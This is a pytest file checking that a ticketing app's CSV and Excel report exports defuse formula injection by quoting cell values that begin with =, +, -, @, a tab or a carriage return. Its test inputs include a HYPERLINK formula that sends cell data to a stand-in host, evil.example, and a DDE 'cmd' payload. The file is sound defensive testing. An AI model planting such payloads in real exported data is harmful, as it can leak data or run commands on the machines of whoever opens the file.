"""Exported reports never carry a live formula: text a manager or clerk typed that starts with = + - @ (or a tab or
carriage return) is written as plain text, as OWASP advises against CSV/formula injection (issue 12, finding 8)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from admin.export import neutralise
from server.core.tickets import Action
from server.services import queue
from server.services.base import Actor

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def served(hub, db, manager):
    """A ticket served at a counter named "=1+1" by a clerk named =HYPERLINK(...)."""
    assert manager.post("/api/admin/counters", json={"number": 9, "name": "=1+1", "services": ["A"]}).status_code == 201
    r = manager.post(
        "/api/admin/users",
        json={"username": "evil", "full_name": HYPERLINK, "role": "clerk", "password": "long enough"},
    )
    assert r.status_code == 201
    clerk = Actor(r.json["id"], "clerk")
    ticket = queue.issue_ticket(db, hub.env, "A")[0]
    queue.open_counter(db, hub.env, clerk, 9)
    queue.call_next(db, hub.env, clerk, 9)
    queue.act(db, hub.env, clerk, ticket.id, Action.START)
    queue.act(db, hub.env, clerk, ticket.id, Action.FINISH)
    return hub.env.today()


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+84 236", "'+84 236"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Quầy 1", "Quầy 1"),
        ("", ""),
        (-2, -2),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_in_front(value, written):
    assert neutralise(value) == written


def test_the_workbook_keeps_the_names_as_plain_text(served, manager):
    r = manager.get(f"/api/reports/export.xlsx?from={served}&to={served}")
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    counters = book[book.sheetnames[1]]
    names = [row[1].value for row in counters.iter_rows(min_row=4)]
    assert "'=1+1" in names
    clerks = book[book.sheetnames[2]]
    assert "'" + HYPERLINK in [row[1].value for row in clerks.iter_rows(min_row=4)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("table,name", [("counters", "'=1+1"), ("clerks", "'" + HYPERLINK)])
def test_the_csv_keeps_the_names_as_plain_text(served, manager, table, name):
    r = manager.get(f"/api/reports/export.csv?from={served}&to={served}&table={table}")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert name in [row[1] for row in rows[1:]]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_a_centre_name_starting_with_a_sign_heads_each_sheet_as_text(served, manager):
    assert manager.put("/api/admin/options", json={"centre_name": "@cmd|' /C calc'!A0"}).status_code == 200
    book = load_workbook(io.BytesIO(manager.get(f"/api/reports/export.xlsx?from={served}&to={served}").data))
    assert {ws["A1"].value.split(" — ")[0] for ws in book.worksheets} == {"'@cmd|' /C calc'!A0"}
